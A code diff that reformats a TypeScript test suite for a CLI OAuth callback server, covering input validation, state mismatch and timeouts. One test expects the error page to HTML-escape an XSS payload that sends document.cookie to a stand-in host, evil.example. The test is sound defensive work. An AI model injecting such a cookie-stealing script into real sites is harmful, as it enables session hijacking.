@@ -13,9 +13,18 @@ const URN = 'urn:ietf:params:oauth:request_uri:cli-test-session';
 /** Start `callback` in-process and wait until it listens. */
 async function startCallback(args: string[], options: Parameters<typeof createTestContext>[0] = {}) {
   const port = await freePort();
-  const ctx = createTestContext({ env: { AWS_REGION: 'us-east-1', AWS_ACCESS_KEY_ID: 'AKIDTEST', AWS_SECRET_ACCESS_KEY: 'x', AWS_ENDPOINT_URL: 'http://127.0.0.1:9' }, ...options });
+  const ctx = createTestContext({
+    env: {
+      AWS_REGION: 'us-east-1',
+      AWS_ACCESS_KEY_ID: 'AKIDTEST',
+      AWS_SECRET_ACCESS_KEY: 'x',
+      AWS_ENDPOINT_URL: 'http://127.0.0.1:9',
+    },
+    ...options,
+  });
   const run = runCommand(['callback', '--port', String(port), ...args], ctx);
-  for (let i = 0; i < 200 && !ctx.stderr.text().includes('return URL'); i++) await new Promise((r) => setTimeout(r, 10));
+  for (let i = 0; i < 200 && !ctx.stderr.text().includes('return URL'); i++)
+    await new Promise((r) => setTimeout(r, 10));
   return { port, ctx, run, base: `http://127.0.0.1:${port}/oauth2/callback` };
 }
 
@@ -31,9 +40,15 @@ describe('callback: inputs', () => {
   });
 
   it('rejects a bad port, path, timeout or token', async () => {
-    expect((await runCommand(['callback', '--user-id', 'a', '--port', 'http'])).stderr).toContain('--port must be an integer 0–65535');
-    expect((await runCommand(['callback', '--user-id', 'a', '--path', 'cb'])).stderr).toContain('--path must start with /');
-    expect((await runCommand(['callback', '--user-id', 'a', '--timeout', '-1'])).stderr).toContain('--timeout must be a positive number of seconds');
+    expect((await runCommand(['callback', '--user-id', 'a', '--port', 'http'])).stderr).toContain(
+      '--port must be an integer 0–65535',
+    );
+    expect((await runCommand(['callback', '--user-id', 'a', '--path', 'cb'])).stderr).toContain(
+      '--path must start with /',
+    );
+    expect((await runCommand(['callback', '--user-id', 'a', '--timeout', '-1'])).stderr).toContain(
+      '--timeout must be a positive number of seconds',
+    );
     const bad = await runCommand(['callback', '--user-token', 'AgV4notajwt']);
     expect(bad.code).toBe(2);
     expect(bad.stderr).toContain('--user-token is not a JWT');
@@ -66,7 +81,9 @@ describe('callback: serving', () => {
     const html = await res.text();
     expect(res.status).toBe(400);
     expect(html).not.toContain('<script>');
-    expect(html).toContain('&lt;script&gt;document.location=&quot;https://evil.example/?c=&quot;+document.cookie&lt;/script&gt;');
+    expect(html).toContain(
+      '&lt;script&gt;document.location=&quot;https://evil.example/?c=&quot;+document.cookie&lt;/script&gt;',
+    );
     const r = await run;
     expect(r.code).toBe(4);
     expect(r.stdout).toBe('');
@@ -94,20 +111,26 @@ describe('callback: serving', () => {
     await fetch(`${base}?session_id=${encodeURIComponent(URN)}`);
     const r = await run;
     expect(r.code).toBe(4);
-    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
+    const lines = r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(lines).toEqual([{ at: expect.any(String), sessionUri: URN, status: 'state-mismatch' }]);
   });
 
   it('--timeout with no session → exit 5 naming the URL (fake clock)', async () => {
     let t = 0;
     const port = await freePort();
-    const r = await runCommand(['callback', '--user-id', 'alice', '--port', String(port), '--once', '--timeout', '120'], {
-      now: () => t,
-      sleep: async (ms) => {
-        t += ms;
-        await new Promise((res) => setImmediate(res));
+    const r = await runCommand(
+      ['callback', '--user-id', 'alice', '--port', String(port), '--once', '--timeout', '120'],
+      {
+        now: () => t,
+        sleep: async (ms) => {
+          t += ms;
+          await new Promise((res) => setImmediate(res));
+        },
       },
-    });
+    );
     expect(r.code).toBe(5);
     expect(r.stderr).toContain(`error: no session arrived within 120 s at http://localhost:${port}/oauth2/callback`);
     expect(t).toBe(120_000);
